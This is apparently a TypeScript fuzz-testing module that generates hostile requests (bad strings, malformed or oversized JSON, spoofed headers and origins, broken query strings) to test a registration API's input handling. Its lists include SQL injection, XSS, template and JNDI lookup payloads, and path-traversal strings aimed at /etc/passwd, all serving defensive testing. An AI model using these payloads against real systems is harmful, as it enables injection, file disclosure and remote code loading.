import fc from "fast-check";
import { BODY_LIMIT } from "../app.ts";
import { GENDERS } from "../../shared/registration.ts";
import { ORIGIN } from "./test-app.ts";

/**
 * Hostile inputs for fuzzing the API through `app.inject`: strings that break naive code,
 * values of the wrong type, bodies that are not JSON, too deep or too big, and headers no
 * browser would send. Each generated request says what it is, so a test can predict the answer.
 */

/** Strings that have broken servers before: SQL, markup, paths, templates, odd Unicode. */
const NASTY_STRINGS: readonly string[] = [
  "",
  " ",
  "\t\n\r",
  "null",
  "undefined",
  "true",
  "0",
  "-1",
  "1e309",
  "NaN",
  "' OR '1'='1",
  '\'; DROP TABLE "user"; --',
  '" OR 1=1 --',
  "1; SELECT pg_sleep(5)",
  "admin'--",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><svg onload=alert(1)>',
  "javascript:alert(1)",
  "{{7*7}}",
  "${7*7}",
  "${jndi:ldap://example.invalid/a}",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%00",
  "%zz",
  "%E0%A4%A",
  "\u0000",
  "a\u0000b",
  "\u0007\u001b[31mred",
  "\ud800",
  "\udfff\ud800",
  "\u202etxt.exe",
  "\u200b\u200c\u200d\ufeff",
  "ǅ🏏👨‍👩‍👧‍👦🇧🇩",
  "Ω≈ç√∫˜µ≤≥÷",
  "田中さんにあげて下さい",
  "مرحبا",
  "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǒ̯̤̫",
  "__proto__",
  "constructor",
  "toString",
  "a@b.co",
  "UPPER@EXAMPLE.COM",
  " padded@example.com ",
  "a@b",
  "@example.com",
  "01712345678",
  "+8801712345678",
  "1990-02-30",
  "2999-01-01",
  "0000-00-00",
];

const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((code) => String.fromCharCode(code));

/** Any string, weighted towards the ones that break things. */
export const nastyString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...NASTY_STRINGS), weight: 4 },
  { arbitrary: fc.string({ maxLength: 40 }), weight: 2 },
  { arbitrary: fc.string({ unit: "grapheme", maxLength: 30 }), weight: 2 },
  { arbitrary: fc.string({ unit: "binary", maxLength: 30 }), weight: 1 },
  { arbitrary: fc.string({ unit: "binary-ascii", maxLength: 30 }), weight: 1 },
  {
    arbitrary: fc.string({
      unit: fc.oneof(loneSurrogate, fc.string({ minLength: 1, maxLength: 1 })),
      maxLength: 10,
    }),
    weight: 1,
  },
  { arbitrary: fc.integer({ min: 101, max: 20_000 }).map((n) => "x".repeat(n)), weight: 1 },
  { arbitrary: fc.integer({ min: 1, max: 3_000 }).map((n) => "é🏏".repeat(n)), weight: 1 },
);

/** A value of any JSON type, often not the one a field wants. */
export const weirdValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: nastyString, weight: 6 },
  {
    arbitrary: fc.oneof(
      fc.integer(),
      fc.double({ noNaN: true, noDefaultInfinity: true }),
      fc.boolean(),
      fc.constant(null),
    ),
    weight: 2,
  },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 2 },
  { arbitrary: fc.integer({ min: 20, max: 400 }).map(nestedObject), weight: 1 },
);

function nestedObject(depth: number): unknown {
  let value: unknown = "bottom";
  for (let i = 0; i < depth; i++) value = i % 2 === 0 ? { a: value } : [value];
  return value;
}

/** Object keys: mostly plausible, sometimes hostile. */
export const anyKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "role",
    "admin",
    "isAdmin",
    "id",
    "emailVerified",
    "userId",
    "token",
    "image",
    "createdAt",
    "callbackURL",
  ),
  fc.string({ maxLength: 20 }),
  nastyString.filter((s) => s.length < 200),
);

/** A body as it goes on the wire, with what the tests need to predict the answer. */
export interface WireBody {
  /** The bytes sent, as text. */
  readonly text: string;
  /** The Content-Type header sent, or undefined for none. */
  readonly contentType: string | undefined;
  /** How the body was made. */
  readonly kind: "json" | "malformed" | "deep" | "oversize" | "form" | "other-type";
}

const CONTENT_TYPES_NOT_JSON = [
  "text/plain",
  "text/html",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=howzat",
  "application/xml",
  "application/octet-stream",
  "application/json-patch+json",
  "application/jsonp",
  "image/png",
  "garbage",
  "/",
  ";",
];

const malformedJson: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "{",
    "}",
    "[",
    "{'a':1}",
    '{"a":1,}',
    '{"a":}',
    '{"a" 1}',
    '"unterminated',
    "nul",
    "tru",
    "01",
    "+1",
    "NaN",
    "{}}",
    "[]]",
    "\ufeff{}",
    '{"a":"\\x41"}',
    '{"a":"\\u12"}',
    "",
    "   ",
  ),
  fc.tuple(fc.jsonValue({ maxDepth: 3 }), fc.nat()).map(([value, cut]) => {
    const text = JSON.stringify(value) ?? "null";
    return text.length > 1 ? text.slice(0, 1 + (cut % (text.length - 1))) : "{";
  }),
  fc
    .tuple(fc.jsonValue({ maxDepth: 2 }), nastyString)
    .map(([value, junk]) => `${JSON.stringify(value)}${junk}x`),
);

/**
 * Bodies built around `objects` (the endpoint's own shape, mutated): mostly JSON of that shape,
 * then any JSON, malformed JSON, very deep nesting, bodies over the limit, form bodies and
 * other content types.
 */
export function wireBody(objects: fc.Arbitrary<Record<string, unknown>>): fc.Arbitrary<WireBody> {
  const json = (value: unknown): WireBody => ({
    text: JSON.stringify(value) ?? "null",
    contentType: "application/json",
    kind: "json",
  });
  return fc.oneof(
    { arbitrary: objects.map(json), weight: 12 },
    { arbitrary: fc.jsonValue().map(json), weight: 2 },
    {
      arbitrary: fc.anything({ maxDepth: 3, withNullPrototype: true, withObjectString: true }).map(json),
      weight: 1,
    },
    {
      arbitrary: fc
        .tuple(malformedJson, fc.constantFrom("application/json", "application/json; charset=utf-8"))
        .map(([text, contentType]): WireBody => ({ text, contentType, kind: "malformed" })),
      weight: 2,
    },
    {
      arbitrary: fc
        .tuple(fc.integer({ min: 500, max: 12_000 }), fc.boolean())
        .map(([depth, arrays]): WireBody => ({
          text: arrays
            ? "[".repeat(depth) + "]".repeat(depth)
            : '{"a":'.repeat(depth) + "1" + "}".repeat(depth),
          contentType: "application/json",
          kind: "deep",
        })),
      weight: 1,
    },
    {
      arbitrary: fc.tuple(objects, fc.integer({ min: 1, max: 50_000 })).map(([value, extra]): WireBody => ({
        text: JSON.stringify({ ...value, padding: "p".repeat(BODY_LIMIT + extra) }),
        contentType: "application/json",
        kind: "oversize",
      })),
      weight: 1,
    },
    {
      arbitrary: objects.map((value): WireBody => ({
        text: new URLSearchParams(
          Object.entries(value).map(([k, v]) => [k, typeof v === "string" ? v : (JSON.stringify(v) ?? "")]),
        ).toString(),
        contentType: "application/x-www-form-urlencoded",
        kind: "form",
      })),
      weight: 1,
    },
    {
      arbitrary: fc
        .tuple(
          fc.oneof(
            objects.map((v) => JSON.stringify(v)),
            malformedJson,
            nastyString,
          ),
          fc.option(fc.constantFrom(...CONTENT_TYPES_NOT_JSON), { nil: undefined }),
        )
        .map(([text, contentType]): WireBody => ({ text, contentType, kind: "other-type" })),
      weight: 2,
    },
  );
}

/** Mostly our own origin; sometimes none, another site, or a cross-site fetch marker. */
export const originHeaders: fc.Arbitrary<Record<string, string>> = fc.oneof(
  { arbitrary: fc.constant({ origin: ORIGIN }), weight: 12 },
  { arbitrary: fc.constant({}), weight: 1 },
  {
    arbitrary: fc.constantFrom(
      { origin: "https://evil.example" },
      { origin: "null" },
      { origin: `${ORIGIN}.evil.example` },
    ),
    weight: 1,
  },
  { arbitrary: fc.constant({ "sec-fetch-site": "cross-site" }), weight: 1 },
);

/** Header values as HTTP/1.1 can carry them (tab, visible ASCII, Latin-1), and beyond it. */
const headerValue: fc.Arbitrary<string> = fc.oneof(
  {
    arbitrary: fc.string({
      unit: fc.constantFrom(..."\tabcXYZ019 !\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~é\u00ff"),
      maxLength: 60,
    }),
    weight: 4,
  },
  {
    arbitrary: fc.constantFrom(...NASTY_STRINGS).filter((s) => !s.includes("\u0000") && !/[\r\n]/.test(s)),
    weight: 2,
  },
  { arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }), weight: 1 },
  { arbitrary: fc.integer({ min: 100, max: 8_000 }).map((n) => "h".repeat(n)), weight: 1 },
);

const headerName: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "x-forwarded-for",
    "x-real-ip",
    "x-howzat-client-ip",
    "forwarded",
    "authorization",
    "referer",
    "user-agent",
    "accept",
    "accept-language",
    "accept-encoding",
    "content-type",
    "x-forwarded-host",
    "x-forwarded-proto",
    "if-none-match",
    "range",
    "x-http-method-override",
    "x-requested-with",
    "sec-fetch-mode",
    "x-csrf-token",
  ),
  fc.stringMatching(/^[a-z][a-z0-9-]{0,30}$/),
);

/** A handful of random request headers (never the ones the test itself controls). */
export const randomHeaders: fc.Arbitrary<Record<string, string>> = fc
  .array(fc.tuple(headerName, headerValue), { maxLength: 6 })
  .map((pairs) =>
    Object.fromEntries(
      pairs.filter(
        ([name]) =>
          !["cookie", "origin", "host", "content-length", "transfer-encoding", "connection"].includes(name),
      ),
    ),
  );

/** A query string, from plausible to broken encodings. */
export const queryString: fc.Arbitrary<string> = fc.oneof(
  fc.constant(""),
  fc.webQueryParameters().map((q) => `?${q}`),
  fc
    .array(fc.tuple(nastyString, nastyString), { maxLength: 5 })
    .map(
      (pairs) =>
        `?${new URLSearchParams(pairs.map(([k, v]) => [k.slice(0, 500), v.slice(0, 500)])).toString()}`,
    ),
  fc.constantFrom(
    "?",
    "?&&&",
    "?a",
    "?a=1&a=2&a=3",
    "?a[b][c]=1",
    "?__proto__[x]=1",
    "?%zz=%",
    "?%E0%A4%A=1",
    "?a=%00",
    "?=",
    "?a=b=c",
    `?${"q=1&".repeat(500)}`,
  ),
);

/** Percent-encodes the UTF-8 bytes of any string; a lone surrogate goes as U+FFFD, as a browser sends it. */
export function percentEncode(text: string): string {
  return Array.from(Buffer.from(text, "utf8"), (byte) =>
    /[A-Za-z0-9\-_.~]/.test(String.fromCharCode(byte))
      ? String.fromCharCode(byte)
      : `%${byte.toString(16).toUpperCase().padStart(2, "0")}`,
  ).join("");
}

/** One path segment for an unknown API route: plausible, encoded, malformed or long. */
export const pathSegment: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.webSegment(), weight: 4 },
  { arbitrary: nastyString.map((s) => percentEncode(s.slice(0, 300))), weight: 3 },
  {
    arbitrary: fc.constantFrom(
      "..",
      ".",
      "%2e%2e",
      "%2F",
      "%5C",
      "%00",
      "%zz",
      "%",
      "%E0%A4%A",
      ";",
      "~",
      "*",
      "(",
      "!",
      "'",
      "$",
      "@",
    ),
    weight: 2,
  },
  { arbitrary: fc.integer({ min: 100, max: 3000 }).map((n) => "s".repeat(n)), weight: 1 },
);

/** A valid registration, different every time (unique e-mail). */
export const validRegistration: fc.Arbitrary<Record<string, unknown>> = fc.record({
  name: fc.oneof(
    fc.constantFrom("Sakib Hasan", "Mashrafe Mortaza", "Ω Ä 田中", "<b>Bold</b>"),
    fc.string({ unit: "grapheme", minLength: 1, maxLength: 40 }),
  ),
  email: fc
    .tuple(fc.stringMatching(/^[a-z0-9]{4,12}$/), fc.nat(), fc.nat())
    .map(([local, a, b]) => `fz-${local}-${a}-${b}@example.com`),
  phone: fc.oneof(
    fc.stringMatching(/^\d{11}$/),
    fc.stringMatching(/^\d{9}$/).map((d) => `+8801${d}`),
  ),
  address: fc.oneof(
    fc.constant("12 Mirpur Road, Dhaka"),
    fc.string({ unit: "grapheme", minLength: 1, maxLength: 80 }),
  ),
  password: fc.stringMatching(/^[A-Za-z0-9!#%&*_-]{8,40}$/),
  dob: fc
    .date({
      min: new Date("1930-01-01T00:00:00Z"),
      max: new Date("2005-12-31T00:00:00Z"),
      noInvalidDate: true,
    })
    .map((d) => d.toISOString().slice(0, 10)),
  gender: fc.constantFrom(...GENDERS, " male ", "Male"),
});

/** One change to an object: drop a field, give it a hostile value, add a key, or vary its case. */
type Mutation =
  | { readonly op: "delete"; readonly key: string }
  | { readonly op: "set"; readonly key: string; readonly value: unknown }
  | { readonly op: "extra"; readonly key: string; readonly value: unknown }
  | { readonly op: "upper" | "pad"; readonly key: string };

/**
 * `base` objects with `min`..`max` mutations of the named `fields` applied. Keys are set as own
 * properties, so `__proto__` goes on the wire as a key rather than changing the prototype.
 */
export function mutated(
  base: fc.Arbitrary<Record<string, unknown>>,
  fields: readonly string[],
  { min = 1, max = 4 } = {},
): fc.Arbitrary<Record<string, unknown>> {
  const field = fc.constantFrom(...fields);
  const mutation: fc.Arbitrary<Mutation> = fc.oneof(
    fc.record({ op: fc.constant("delete" as const), key: field }),
    fc.record({ op: fc.constant("set" as const), key: field, value: weirdValue }),
    fc.record({ op: fc.constant("set" as const), key: field, value: nastyString }),
    fc.record({ op: fc.constant("extra" as const), key: anyKey, value: weirdValue }),
    fc.record({ op: fc.constantFrom("upper" as const, "pad" as const), key: field }),
  );
  return fc
    .tuple(base, fc.array(mutation, { minLength: min, maxLength: max }))
    .map(([original, mutations]) => {
      const value: Record<string, unknown> = { ...original };
      for (const m of mutations) {
        if (m.op === "delete") delete value[m.key];
        else if (m.op === "set" || m.op === "extra") put(value, m.key, m.value);
        else {
          const current = value[m.key];
          if (typeof current === "string")
            put(value, m.key, m.op === "upper" ? current.toUpperCase() : ` ${current}\t`);
        }
      }
      return value;
    });
}

function put(target: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}
